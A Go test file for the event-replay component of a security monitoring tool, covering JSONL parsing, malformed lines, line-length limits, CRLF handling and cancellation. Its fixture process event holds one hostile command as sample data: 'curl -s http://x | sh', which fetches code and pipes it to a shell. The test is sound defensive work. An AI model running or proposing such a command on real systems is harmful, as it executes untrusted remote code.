package replay

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"testing/iotest"
	"time"

	"github.com/vigil-sec/vigil/internal/event"
	"github.com/vigil-sec/vigil/internal/event/eventjson"
)

var update = flag.Bool("update", false, "rewrite testdata/recording.jsonl from the expected events")

const recording = "testdata/recording.jsonl"

// recordedEvents are the good events of testdata/recording.jsonl, in order.
func recordedEvents() []*event.Event {
	boot := [16]byte{0xde, 0xad, 0xbe, 0xef}
	t0 := time.Date(2025, 11, 23, 21, 11, 5, 123456789, time.UTC)
	bash := event.Ancestor{PID: 812, ExecID: event.NewExecID(boot, 812, 5e9), Name: "bash",
		Exe: "/usr/bin/bash", Args: []string{"-bash"}}
	initp := event.Ancestor{PID: 1, ExecID: event.NewExecID(boot, 1, 1e6), Name: "systemd",
		Exe: "/usr/lib/systemd/systemd", Args: []string{"/sbin/init"}}
	sh := event.Process{PID: 4321, TID: 4321, PPID: 812, ExecID: event.NewExecID(boot, 4321, 9e9),
		Name: "sh", Exe: "/usr/bin/dash", Args: []string{"sh", "-c", "curl -s http://x | sh"}, Cwd: "/root",
		LoginUID: event.NoLoginUID, SID: 812, TTY: 34816, StartTime: t0.Add(-time.Second), CgroupID: 1234}
	thread := sh
	thread.TID = 4322
	return []*event.Event{
		{Time: t0, Type: event.TypeExecve, Host: "vm", Process: sh,
			Ancestors: []event.Ancestor{bash, initp}, Exec: &event.Exec{Filename: "/bin/sh"}},
		{Time: t0.Add(time.Millisecond), Type: event.TypeClone, Host: "vm", Process: thread,
			Ancestors: []event.Ancestor{bash, initp}, Clone: &event.Clone{Flags: 0x3d0f00, Thread: true}},
		{Time: t0.Add(2 * time.Second), Type: event.TypeProcExit, Host: "vm", Process: sh,
			Ancestors: []event.Ancestor{bash, initp}, Exit: &event.Exit{Signal: 9}},
		{Time: t0.Add(3 * time.Second), Type: event.TypeDrop, Host: "vm",
			Drop: &event.Drop{Lost: map[string]uint64{"execve": 3, "clone": 1}}},
	}
}

// The malformed lines of the recording and the errors they produce.
const (
	badJSONLine = `{"time":"2025-11-23T21:11:06Z","type":"execve","process":{"pid":`
	badTypeLine = `{"time":"2025-11-23T21:11:06Z","type":"teleport","process":{"pid":4321}}`
)

// recordingLines is the content of the recording, line by line.
func recordingLines() []string {
	var lines []string
	for _, ev := range recordedEvents() {
		lines = append(lines, string(eventjson.Append(nil, ev)))
	}
	// good, good, blank, bad JSON, bad type, good, good
	return []string{lines[0], lines[1], "", badJSONLine, badTypeLine, lines[2], lines[3]}
}

// run replays r and returns what came out.
func run(t *testing.T, r io.Reader, opts Options) (events []*event.Event, errs []string, s *Source) {
	t.Helper()
	opts.OnError = func(err error) { errs = append(errs, err.Error()) }
	s = New(r, opts)
	if err := s.Run(context.Background(), func(ev *event.Event) { events = append(events, ev) }); err != nil {
		t.Fatalf("Run: %v", err)
	}
	return events, errs, s
}

func checkEvents(t *testing.T, got, want []*event.Event) {
	t.Helper()
	if len(got) != len(want) {
		t.Fatalf("got %d events, want %d", len(got), len(want))
	}
	for i := range want {
		if !reflect.DeepEqual(got[i], want[i]) {
			t.Errorf("event %d:\n got %s\nwant %s", i, eventjson.Append(nil, got[i]), eventjson.Append(nil, want[i]))
		}
	}
}

func checkStrings(t *testing.T, what string, got, want []string) {
	t.Helper()
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("%s:\n got %q\nwant %q", what, got, want)
	}
}

func TestGoldenRecording(t *testing.T) {
	if *update {
		data := strings.Join(recordingLines(), "\n") + "\n"
		if err := os.WriteFile(recording, []byte(data), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	f, err := os.Open(recording)
	if err != nil {
		t.Fatalf("%v (run go test -update to create it)", err)
	}
	defer f.Close()
	events, errs, s := run(t, f, Options{Name: filepath.Base(recording)})
	checkEvents(t, events, recordedEvents())
	checkStrings(t, "errors", errs, []string{
		"recording.jsonl:4: invalid JSON at byte 64: unexpected end of JSON input",
		`recording.jsonl:5: type: unknown event type "teleport"`,
	})
	if got, want := s.Stats(), (Stats{Lines: 7, Events: 4, Bad: 2}); got != want {
		t.Errorf("Stats = %+v, want %+v", got, want)
	}
}

func TestErrorsWrapCause(t *testing.T) {
	var errs []error
	s := New(strings.NewReader(badTypeLine+"\n"+strings.Repeat("x", 200)+"\n"),
		Options{Name: "f", MaxLine: 100, OnError: func(err error) { errs = append(errs, err) }})
	if err := s.Run(context.Background(), func(*event.Event) {}); err != nil {
		t.Fatal(err)
	}
	if len(errs) != 2 {
		t.Fatalf("got errors %v", errs)
	}
	var fe *eventjson.FieldError
	if !errors.As(errs[0], &fe) || fe.Field != "type" {
		t.Errorf("error %v does not wrap the eventjson.FieldError for type", errs[0])
	}
	var tl *LineTooLongError
	if !errors.As(errs[1], &tl) || *tl != (LineTooLongError{Length: 200, Limit: 100}) {
		t.Errorf("error %v does not wrap LineTooLongError{200, 100}", errs[1])
	}
}

// TestReaders replays the recording through readers that return data in
// odd pieces: the outcome must not change.
func TestReaders(t *testing.T) {
	data := strings.Join(recordingLines(), "\n") + "\n"
	for name, r := range map[string]io.Reader{
		"one byte":  iotest.OneByteReader(strings.NewReader(data)),
		"half":      iotest.HalfReader(strings.NewReader(data)),
		"data+EOF":  iotest.DataErrReader(strings.NewReader(data)),
		"tiny max":  strings.NewReader(data), // with MaxLine exactly the longest line
		"plain":     strings.NewReader(data),
		"no final":  strings.NewReader(strings.TrimSuffix(data, "\n")),
		"crlf":      strings.NewReader(strings.ReplaceAll(data, "\n", "\r\n")),
		"crlf+half": iotest.HalfReader(strings.NewReader(strings.ReplaceAll(data, "\n", "\r\n"))),
	} {
		t.Run(name, func(t *testing.T) {
			opts := Options{Name: "rec"}
			if name == "tiny max" {
				for _, l := range recordingLines() {
					opts.MaxLine = max(opts.MaxLine, len(l))
				}
			}
			events, errs, _ := run(t, r, opts)
			checkEvents(t, events, recordedEvents())
			if len(errs) != 2 || !strings.HasPrefix(errs[0], "rec:4: ") || !strings.HasPrefix(errs[1], "rec:5: ") {
				t.Errorf("errors = %q", errs)
			}
		})
	}
}

func TestLongLine(t *testing.T) {
	good := recordingLines()[0]
	const maxLine = 1024
	for _, n := range []int{maxLine + 1, 5000, readBufSize - 1, readBufSize, readBufSize + 1, 3*readBufSize + 7, 1 << 20} {
		t.Run(fmt.Sprint(n), func(t *testing.T) {
			long := strings.Repeat("x", n)
			data := strings.Join([]string{long, good, long, long + "\r", good, long}, "\n")
			events, errs, s := run(t, iotest.HalfReader(strings.NewReader(data)), Options{Name: "big", MaxLine: maxLine})
			if len(events) != 2 || events[0].Process.PID != 4321 || events[1].Process.PID != 4321 {
				t.Errorf("got %d events, want the two good lines", len(events))
			}
			msg := fmt.Sprintf("line of %d bytes is longer than the limit of %d bytes", n, maxLine)
			checkStrings(t, "errors", errs, []string{
				"big:1: " + msg, "big:3: " + msg, "big:4: " + msg, "big:6: " + msg,
			})
			// The long lines were skipped, not assembled in memory.
			if c := cap(s.buf); c > maxLine+readBufSize {
				t.Errorf("line buffer grew to %d bytes", c)
			}
		})
	}
}

func TestMaxLineBoundary(t *testing.T) {
	good := recordingLines()[0]
	for _, tc := range []struct {
		name    string
		data    string
		maxLine int
		events  int
	}{
		{"exactly MaxLine", good + "\n", len(good), 1},
		{"exactly MaxLine, CRLF", good + "\r\n", len(good), 1},
		{"exactly MaxLine, no newline", good, len(good), 1},
		{"one over", good + "\n", len(good) - 1, 0},
		{"one over, CRLF", good + "\r\n", len(good) - 1, 0},
		{"one over, no newline", good, len(good) - 1, 0},
		{"trailing CR at EOF", good + "\r", len(good), 0}, // the CR is content without its LF
	} {
		t.Run(tc.name, func(t *testing.T) {
			events, errs, _ := run(t, strings.NewReader(tc.data), Options{MaxLine: tc.maxLine})
			if len(events) != tc.events {
				t.Errorf("got %d events (errors %q), want %d", len(events), errs, tc.events)
			}
			if tc.events == 0 && (len(errs) != 1 || !strings.HasPrefix(errs[0], "input:1: line of ")) {
				t.Errorf("errors = %q", errs)
			}
		})
	}
}

func TestFinalLineWithoutNewline(t *testing.T) {
	lines := recordingLines()
	data := lines[0] + "\n" + lines[1]
	events, errs, s := run(t, strings.NewReader(data), Options{})
	checkEvents(t, events, recordedEvents()[:2])
	if len(errs) != 0 {
		t.Errorf("errors = %q", errs)
	}
	if s.Stats().Lines != 2 {
		t.Errorf("Stats = %+v", s.Stats())
	}

	// A malformed final line is reported with its number.
	_, errs, _ = run(t, strings.NewReader(data+"\n"+badJSONLine), Options{Name: "f"})
	if len(errs) != 1 || !strings.HasPrefix(errs[0], "f:3: invalid JSON") {
		t.Errorf("errors = %q", errs)
	}
}

func TestCRLF(t *testing.T) {
	data := "\xef\xbb\xbf" + strings.Join(recordingLines(), "\r\n") + "\r\n\r\n  \t\r\n"
	events, errs, s := run(t, strings.NewReader(data), Options{Name: "win.jsonl"})
	checkEvents(t, events, recordedEvents())
	checkStrings(t, "errors", errs, []string{
		"win.jsonl:4: invalid JSON at byte 64: unexpected end of JSON input",
		`win.jsonl:5: type: unknown event type "teleport"`,
	})
	if got, want := s.Stats(), (Stats{Lines: 9, Events: 4, Bad: 2}); got != want {
		t.Errorf("Stats = %+v, want %+v", got, want)
	}
}

func TestEmptyInput(t *testing.T) {
	for _, data := range []string{"", "\n", "\n\n\r\n", "   "} {
		events, errs, _ := run(t, strings.NewReader(data), Options{})
		if len(events) != 0 || len(errs) != 0 {
			t.Errorf("%q: got %d events, errors %q", data, len(events), errs)
		}
	}
}

func TestNilOnError(t *testing.T) {
	s := New(strings.NewReader(strings.Join(recordingLines(), "\n")), Options{})
	n := 0
	if err := s.Run(context.Background(), func(*event.Event) { n++ }); err != nil {
		t.Fatal(err)
	}
	if got, want := s.Stats(), (Stats{Lines: 7, Events: 4, Bad: 2}); got != want || n != 4 {
		t.Errorf("Stats = %+v, want %+v; %d events emitted", got, want, n)
	}
}

func TestReadError(t *testing.T) {
	lines := recordingLines()
	boom := errors.New("boom")
	r := io.MultiReader(strings.NewReader(lines[0]+"\n"+lines[1][:10]), iotest.ErrReader(boom))
	var events []*event.Event
	s := New(r, Options{Name: "rec.jsonl", OnError: func(err error) { t.Errorf("OnError(%v)", err) }})
	err := s.Run(context.Background(), func(ev *event.Event) { events = append(events, ev) })
	if !errors.Is(err, boom) {
		t.Fatalf("Run = %v, want the reader's error", err)
	}
	if want := "replay rec.jsonl: read line 2: boom"; err.Error() != want {
		t.Errorf("Run = %q, want %q", err, want)
	}
	checkEvents(t, events, recordedEvents()[:1])
}

func TestCancel(t *testing.T) {
	data := strings.Join(recordingLines(), "\n")
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	s := New(strings.NewReader(data), Options{})
	n := 0
	err := s.Run(ctx, func(*event.Event) {
		n++
		cancel()
	})
	if err != nil || n != 1 {
		t.Fatalf("Run = %v after %d events, want nil after 1", err, n)
	}
	// Run again continues after the last line read.
	var rest []*event.Event
	if err := s.Run(context.Background(), func(ev *event.Event) { rest = append(rest, ev) }); err != nil {
		t.Fatal(err)
	}
	checkEvents(t, rest, recordedEvents()[1:])

	// A context that is already done emits nothing.
	n = 0
	if err := New(strings.NewReader(data), Options{}).Run(ctx, func(*event.Event) { n++ }); err != nil || n != 0 {
		t.Errorf("Run with a done context = %v, %d events", err, n)
	}
}

func TestStatsConcurrent(t *testing.T) {
	data := strings.Repeat(recordingLines()[0]+"\n", 200)
	s := New(strings.NewReader(data), Options{})
	done := make(chan struct{})
	go func() {
		defer close(done)
		for s.Stats().Events < 200 {
			time.Sleep(time.Microsecond)
		}
	}()
	if err := s.Run(context.Background(), func(*event.Event) {}); err != nil {
		t.Fatal(err)
	}
	<-done
}

func BenchmarkReplay(b *testing.B) {
	var sb strings.Builder
	for _, l := range recordingLines() {
		if l != badJSONLine && l != badTypeLine && l != "" {
			sb.WriteString(l + "\n")
		}
	}
	data := strings.Repeat(sb.String(), 100)
	b.ReportAllocs()
	b.SetBytes(int64(len(data)))
	for b.Loop() {
		s := New(strings.NewReader(data), Options{})
		if err := s.Run(context.Background(), func(*event.Event) {}); err != nil {
			b.Fatal(err)
		}
	}
}

// TestLongValidLine: lines longer than the read buffer are assembled from
// several reads, including when "\r" and "\n" fall in different reads.
func TestLongValidLine(t *testing.T) {
	for _, size := range []int{readBufSize - 2, readBufSize - 1, readBufSize, readBufSize + 1,
		2*readBufSize - 1, 2 * readBufSize, 3*readBufSize + 5} {
		t.Run(fmt.Sprint(size), func(t *testing.T) {
			ev := recordedEvents()[0]
			ev.Process.Args = []string{"sh", ""}
			pad := size - len(eventjson.Append(nil, ev))
			ev.Process.Args[1] = strings.Repeat("a", pad)
			line := string(eventjson.Append(nil, ev))
			if len(line) != size {
				t.Fatalf("built a line of %d bytes, want %d", len(line), size)
			}
			data := line + "\r\n" + line + "\n" + line
			events, errs, _ := run(t, strings.NewReader(data), Options{MaxLine: size})
			if len(errs) != 0 {
				t.Fatalf("errors: %q", errs)
			}
			checkEvents(t, events, []*event.Event{ev, ev, ev})

			events, errs, _ = run(t, strings.NewReader(data), Options{MaxLine: size - 1})
			msg := fmt.Sprintf("line of %d bytes is longer than the limit of %d bytes", size, size-1)
			if len(events) != 0 {
				t.Errorf("got %d events over the limit", len(events))
			}
			checkStrings(t, "errors", errs, []string{"input:1: " + msg, "input:2: " + msg, "input:3: " + msg})
		})
	}
}
